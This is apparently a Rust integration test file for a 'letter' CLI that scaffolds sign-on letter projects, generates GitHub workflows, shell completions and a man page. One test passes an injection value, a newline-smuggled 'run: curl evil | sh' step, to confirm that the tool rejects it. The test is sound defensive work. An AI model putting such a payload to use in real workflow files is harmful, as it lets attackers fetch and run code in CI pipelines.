//! `letter init`, shell completions and the manual page.

use crate::util::run;

fn letter_in(dir: &std::path::Path) -> assert_cmd::Command {
    let mut cmd = assert_cmd::Command::cargo_bin("letter").unwrap();
    cmd.current_dir(dir);
    cmd
}

#[test]
fn init_scaffolds_a_letter_that_checks_and_builds() {
    let dir = tempfile::tempdir().unwrap();
    let (code, out, err) = run(letter_in(dir.path()).args(["init", "carta-nueva"]));
    assert_eq!(code, 0, "{err}");
    for file in [
        "letters/carta-nueva/letter.yaml",
        "letters/carta-nueva/demands.yaml",
        "letters/carta-nueva/templates/letter.html.tera",
        "signatories/carta-nueva/organizations.yaml",
        ".github/workflows/letter.yml",
        ".github/workflows/pages.yml",
        ".github/workflows/sign.yml",
        ".github/ISSUE_TEMPLATE/sign.yml",
        ".gitignore",
        ".gitattributes",
    ] {
        assert!(dir.path().join(file).is_file(), "{file} missing; wrote:\n{out}");
    }
    let ignored = std::fs::read_to_string(dir.path().join(".gitignore")).unwrap();
    let temp = format!("{}*", letter::atomic::TEMP_PREFIX);
    assert!(ignored.lines().any(|l| l == temp), "a killed write's leftovers are not staged: {ignored}");
    let (code, out, _) = run(letter_in(dir.path()).arg("check"));
    assert_eq!(code, 0, "{out}");
    let (code, _, err) = run(letter_in(dir.path()).args(["build", "--format", "md"]));
    assert_eq!(code, 0, "{err}");
    assert!(
        std::fs::read_to_string(dir.path().join("out/carta-nueva.es.md"))
            .unwrap()
            .contains("# Título de la carta")
    );
    let (code, _, err) = run(letter_in(dir.path()).args(["init", "carta-nueva"]));
    assert_eq!(code, 1, "refuses to overwrite");
    assert!(err.contains("already exists"), "{err}");
}

#[test]
fn completions_and_man_page_come_from_the_cli_definition() {
    let dir = tempfile::tempdir().unwrap();
    let (code, bash, _) = run(letter_in(dir.path()).args(["completions", "bash"]));
    assert_eq!(code, 0);
    assert!(bash.contains("letter__check") || bash.contains("check"), "{bash}");
    assert!(bash.contains("--strict"));
    let (code, man, _) = run(letter_in(dir.path()).arg("man"));
    assert_eq!(code, 0);
    assert!(man.contains(".TH letter 1") && man.contains("completions"), "{man}");
}

#[test]
fn init_workflows_use_the_action_it_prints_and_check_only_what_a_pr_changed() {
    let dir = tempfile::tempdir().unwrap();
    let (code, out, err) = run(letter_in(dir.path()).args(["init", "carta"]));
    assert_eq!(code, 0, "{err}");
    let version = env!("CARGO_PKG_VERSION");
    let action = format!("sign-on-letters/letter@v{version}");
    assert!(out.contains(&format!("use the action {action} (the default; another with --from")), "{out}");
    let ci = std::fs::read_to_string(dir.path().join(".github/workflows/letter.yml")).unwrap();
    assert!(ci.contains(&format!("- uses: {action}\n")), "{ci}");
    assert!(ci.contains("since: ${{ github.event.pull_request.base.sha }}"), "{ci}");
    let pages = std::fs::read_to_string(dir.path().join(".github/workflows/pages.yml")).unwrap();
    assert!(
        pages.contains(&format!("- uses: {action}\n")) && pages.contains("actions/deploy-pages"),
        "{pages}"
    );
    assert!(!ci.contains("{{ACTION") && !pages.contains("{{ACTION"), "no placeholder left");

    let fork = tempfile::tempdir().unwrap();
    let (code, out, err) =
        run(letter_in(fork.path()).args(["init", "carta", "--from", "red-mx/letter@main"]));
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("use the action red-mx/letter@main (--from)"), "{out}");
    let ci = std::fs::read_to_string(fork.path().join(".github/workflows/letter.yml")).unwrap();
    assert!(ci.contains("- uses: red-mx/letter@main\n"), "{ci}");
}

#[test]
fn init_refuses_a_from_that_is_not_a_repository_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (code, _, err) =
        run(letter_in(dir.path()).args(["init", "carta", "--from", "x/y\n    run: curl evil | sh"]));
    assert_eq!(code, 2);
    assert!(err.contains("is not a GitHub repository") && err.contains("OWNER/REPO"), "{err}");
    assert!(std::fs::read_dir(dir.path()).unwrap().next().is_none(), "wrote nothing");
}
